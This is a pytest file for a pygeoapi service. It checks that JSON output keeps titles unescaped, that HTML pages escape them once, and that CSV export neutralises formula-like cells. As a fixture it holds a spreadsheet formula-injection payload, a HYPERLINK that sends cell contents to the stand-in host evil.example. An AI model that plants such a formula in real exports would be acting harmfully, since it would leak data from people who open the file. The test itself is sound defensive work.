"""What pygeoapi's serialisers write, over HTTP: JSON and CSV carry the data.

- JSON: a title ``A & <B>`` is ``A & <B>`` in every JSON document (collection,
  collections, catalogue record, OpenAPI, tileset metadata), not
  ``A & &lt;B&gt;``; the HTML pages escape it once (Jinja's autoescape).
- CSV (``f=csv``): text cells that a spreadsheet would run as a formula get a
  leading ``'``; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import requests

from tests.api.conftest import Server
from tests.api.layerdata import Conn, Feat, add_version, create_layer

TITLE = "A & <B>"
SLUG = "landsd_amp"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'


def get(url: str, **params: Any) -> requests.Response:
    response = requests.get(url, params=params, timeout=30)
    assert response.status_code == 200, (url, response.text[:300])
    return response


def test_titles_are_not_html_escaped_in_json(db: Conn, server: Server) -> None:
    create_layer(db, SLUG, title_en=TITLE, title_zh="甲 & <乙>")
    add_version(db, SLUG, [Feat("1", {"BLDG_ID": "1"}, "POINT(114.17 22.3)")])
    collection = f"{server.url}/collections/{SLUG}"
    documents = {
        "collection": get(collection, f="json"),
        "collections": get(f"{server.url}/collections", f="json"),
        "record": get(f"{server.url}/collections/catalog/items/{SLUG}", f="json"),
        "openapi": get(f"{server.url}/openapi", f="json"),
        "tileset": get(f"{collection}/tiles/WebMercatorQuad", f="json"),
    }
    for name, response in documents.items():
        assert "&lt;" not in response.text and "&amp;" not in response.text, name
    assert documents["collection"].json()["title"] == TITLE
    listed = documents["collections"].json()["collections"]
    assert {c["id"]: c["title"] for c in listed}[SLUG] == TITLE
    record = documents["record"].json()["properties"]
    assert record["title"] == TITLE and record["title_zh"] == "甲 & <乙>"
    paths = documents["openapi"].json()["paths"]
    assert TITLE in paths[f"/collections/{SLUG}"]["get"]["summary"]
    assert documents["tileset"].json()["layers"][0]["title"] == TITLE

    # HTML: escaped once, by the templates.
    for page in (
        get(collection, f="html").text,
        get(f"{server.url}/collections", f="html").text,
    ):
        assert "A &amp; &lt;B&gt;" in page
        assert TITLE not in page and "&amp;lt;" not in page and "&amp;amp;" not in page


def test_csv_text_cells_cannot_be_formulas(db: Conn, server: Server) -> None:
    fields = [("BLDG_ID", "text"), ("NOTE", "text"), ("DELTA", "double precision")]
    fields.append(("=cmd", "text"))
    create_layer(db, SLUG, fields=fields)
    notes = [FORMULA, "+852 2345 6789", "-minus", "@SUM(A1:A9)", "\tx", "\rx", "plain"]
    add_version(
        db,
        SLUG,
        [
            Feat(
                f"B{i}",
                {"BLDG_ID": f"B{i}", "NOTE": note, "DELTA": -12.5 - i, "=cmd": "=1+1"},
                f"POINT(114.1{i} 22.3)",
            )
            for i, note in enumerate(notes)
        ],
    )
    response = get(f"{server.url}/collections/{SLUG}/items", f="csv", limit=50)
    assert response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(notes)
    assert list(rows[0])[:4] == ["BLDG_ID", "NOTE", "DELTA", "'=cmd"]
    by_id = {row["BLDG_ID"]: row for row in rows}
    for i, note in enumerate(notes):
        row = by_id[f"B{i}"]
        expected = note if note == "plain" else "'" + note
        assert row["NOTE"] == expected, row
        assert row["DELTA"] == str(-12.5 - i)  # a number: as it is
        assert row["'=cmd"] == "'=1+1"
    # What a spreadsheet reads as the first cell of a row is never a formula.
    assert not any(
        line.startswith(("=", "+", "-", "@")) for line in response.text.splitlines()
    )


def test_the_catalogue_is_not_offered_as_csv(db: Conn, server: Server) -> None:
    """pygeoapi's records path cannot write CSV (it answered 500): a clear 400."""
    create_layer(db, SLUG)
    add_version(db, SLUG, [Feat("1", {"BLDG_ID": "1"}, "POINT(114.17 22.3)")])
    catalog = f"{server.url}/collections/catalog"
    response = requests.get(f"{catalog}/items", params={"f": "csv"}, timeout=30)
    assert response.status_code == 400, response.text
    assert response.json()["code"] == "InvalidParameterValue"
    links = get(catalog, f="json").json()["links"]
    assert "text/csv" not in {link.get("type", "").split(";")[0] for link in links}
    # Layers still offer CSV.
    layer_links = get(f"{server.url}/collections/{SLUG}", f="json").json()["links"]
    assert any(link.get("type", "").startswith("text/csv") for link in layer_links)
